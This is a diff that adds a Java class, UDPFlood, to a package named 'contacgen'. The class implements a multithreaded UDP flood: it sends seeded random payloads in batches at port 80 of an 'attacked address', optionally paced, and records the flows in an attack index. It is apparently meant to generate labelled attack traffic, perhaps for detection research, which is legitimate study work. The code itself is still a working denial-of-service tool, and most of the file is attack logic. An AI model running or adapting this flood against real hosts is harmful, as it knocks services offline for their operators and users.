@@ -0,0 +1,225 @@
+package fr.contacgen;
+
+import java.io.IOException;
+import java.net.DatagramSocket;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.nio.ByteBuffer;
+import java.nio.channels.DatagramChannel;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+import java.util.concurrent.ArrayBlockingQueue;
+import java.util.concurrent.BlockingQueue;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * UDP flood sending the payloads of {@link UDPDos} at a much higher rate.
+ * One thread draws the payloads from the seed into pooled direct buffers,
+ * sender threads each own a channel and send the buffers in batches.
+ * The channels are bound but not connected, so the ICMP port unreachable
+ * answers of the closed port do not fail the next sends.
+ * The payloads only depend on the seed, the order they leave the host in
+ * depends on the sender threads.
+ */
+public class UDPFlood implements Runnable {
+	private static final int PORT = 80;
+	private static final int BATCH = 64;
+	// Marks the end of the payloads, each sender puts it back for the next one
+	private static final ByteBuffer END = ByteBuffer.allocate(0);
+
+	private final InetAddress server;
+	private final long seed;
+	private int amount = 50000;
+	private int senders = 1;
+	private int minSize = UDPDos.MIN_SIZE;
+	private int maxSize = UDPDos.MAX_SIZE;
+	private Pacer pacer = null;
+	private AttackIndex index = null;
+	private final AtomicLong sent = new AtomicLong(), failed = new AtomicLong();
+
+	/**
+	 * @param server the attacked address
+	 * @param seed the seed of the payloads
+	 */
+	public UDPFlood(InetAddress server, long seed) {
+		this.server = server;
+		this.seed = seed;
+	}
+
+	@Override
+	public void run() {
+		System.out.println("UDP flood started on url: " + server + " with " + senders + " senders");
+		int buffers = senders * BATCH * 2;
+		BlockingQueue<ByteBuffer> free = new ArrayBlockingQueue<>(buffers);
+		BlockingQueue<ByteBuffer> filled = new ArrayBlockingQueue<>(buffers + 1);
+		for(int i = 0; i < buffers; i++)
+			free.add(ByteBuffer.allocateDirect(maxSize));
+
+		List<Thread> threads = new ArrayList<>();
+		List<AttackIndex.Flow> flows = new ArrayList<>();
+		try {
+			InetSocketAddress target = new InetSocketAddress(server, PORT);
+			InetAddress source = sourceAddress(target);
+			for(int i = 0; i < senders; i++) {
+				DatagramChannel channel = DatagramChannel.open().bind(new InetSocketAddress(source, 0));
+				if(index != null) {
+					InetSocketAddress local = (InetSocketAddress) channel.getLocalAddress();
+					flows.add(index.open(AttackIndex.UDP, local.getAddress(), local.getPort(), server, PORT));
+				}
+				Thread thread = new Thread(() -> send(channel, target, filled, free), "contacgen-flood-" + (i + 1));
+				threads.add(thread);
+				thread.start();
+			}
+
+			// Draw the payloads in seed order
+			Random r = new Random(seed);
+			byte[] payload = new byte[maxSize];
+			for(int i = 0; i < amount; i++) {
+				int length = UDPDos.fillPayload(r, payload, minSize, maxSize);
+				if(pacer != null) pacer.pace(length);
+				ByteBuffer buffer = free.take();
+				buffer.clear();
+				buffer.put(payload, 0, length).flip();
+				filled.put(buffer);
+			}
+		} catch (IOException e) {
+			e.printStackTrace();
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+		} finally {
+			filled.add(END);
+			// The flows end once every sender is done, even when the flood is stopped
+			boolean interrupted = Thread.interrupted();
+			for(Thread thread : threads) {
+				while(true) {
+					try {
+						thread.join();
+						break;
+					} catch (InterruptedException e) {
+						interrupted = true;
+					}
+				}
+			}
+			if(interrupted)
+				Thread.currentThread().interrupt();
+			for(AttackIndex.Flow flow : flows)
+				flow.close();
+		}
+		if(failed.get() > 0)
+			System.out.println("UDP flood finished, " + sent.get() + " packets sent, " + failed.get() + " failed");
+		else
+			System.out.println("UDP flood finished, " + sent.get() + " packets sent");
+	}
+
+	/**
+	 * @return the local address the packets to the target leave from, so the flows can be indexed
+	 */
+	private static InetAddress sourceAddress(InetSocketAddress target) throws IOException {
+		// Connecting a datagram socket only picks the route, nothing is sent
+		try (DatagramSocket probe = new DatagramSocket()) {
+			probe.connect(target);
+			return probe.getLocalAddress();
+		}
+	}
+
+	/**
+	 * Sends the filled buffers until the end marker, a batch at a time.
+	 */
+	private void send(DatagramChannel channel, InetSocketAddress target, BlockingQueue<ByteBuffer> filled, BlockingQueue<ByteBuffer> free) {
+		List<ByteBuffer> batch = new ArrayList<>(BATCH);
+		try (DatagramChannel c = channel) {
+			while(true) {
+				batch.add(filled.take());
+				filled.drainTo(batch, BATCH - 1);
+				for(ByteBuffer buffer : batch) {
+					if(buffer == END) {
+						filled.add(END);
+						return;
+					}
+					try {
+						if(c.send(buffer, target) > 0) sent.incrementAndGet();
+						else failed.incrementAndGet();
+					} catch (IOException e) {
+						// Like UDPDos, a refused packet does not stop the flood, the failures are counted
+						if(failed.getAndIncrement() == 0)
+							System.out.println("UDP flood send failed: " + e);
+					}
+					free.add(buffer);
+				}
+				batch.clear();
+			}
+		} catch (IOException e) {
+			e.printStackTrace();
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+		}
+	}
+
+	/**
+	 * @return the number of packets sent so far
+	 */
+	public long getSent() {
+		return sent.get();
+	}
+
+	/**
+	 * Sets the number of packets to send.
+	 *
+	 * @param amount the number of packets
+	 * @return this flood
+	 */
+	public UDPFlood setAmount(int amount) {
+		this.amount = amount;
+		return this;
+	}
+
+	/**
+	 * Sets the number of sender threads.
+	 *
+	 * @param senders the number of threads
+	 * @return this flood
+	 */
+	public UDPFlood setSenders(int senders) {
+		if(senders < 1)
+			throw new IllegalArgumentException("At least one sender is needed.");
+		this.senders = senders;
+		return this;
+	}
+
+	/**
+	 * Sets the pacer the packets wait for, bytes are counted on the payloads.
+	 *
+	 * @param pacer the pacer, or null to send as fast as possible
+	 * @return this flood
+	 */
+	public UDPFlood setPacer(Pacer pacer) {
+		this.pacer = pacer;
+		return this;
+	}
+
+	/**
+	 * Sets the index the flows of the senders are recorded in.
+	 *
+	 * @param index the index, or null
+	 * @return this flood
+	 */
+	public UDPFlood setIndex(AttackIndex index) {
+		this.index = index;
+		return this;
+	}
+
+	/**
+	 * Sets the payload sizes, drawn uniformly.
+	 *
+	 * @param minSize the smallest payload size
+	 * @param maxSize the largest payload size, excluded
+	 * @return this flood
+	 */
+	public UDPFlood setSizes(int minSize, int maxSize) {
+		UDPDos.checkSizes(minSize, maxSize);
+		this.minSize = minSize;
+		this.maxSize = maxSize;
+		return this;
+	}
+}